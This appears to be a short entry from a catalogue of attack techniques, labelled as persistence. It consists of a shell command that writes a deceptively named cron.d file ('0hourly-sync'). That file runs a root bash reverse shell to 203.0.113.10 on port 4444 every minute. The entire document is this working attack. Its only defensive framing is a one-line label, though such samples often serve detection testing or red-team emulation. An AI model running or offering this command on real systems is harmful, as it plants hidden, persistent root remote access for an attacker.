# description: Drops a cron.d file that opens a reverse shell every minute.
# family: persistence
cat > /etc/cron.d/0hourly-sync <<'EOF'
* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'
EOF
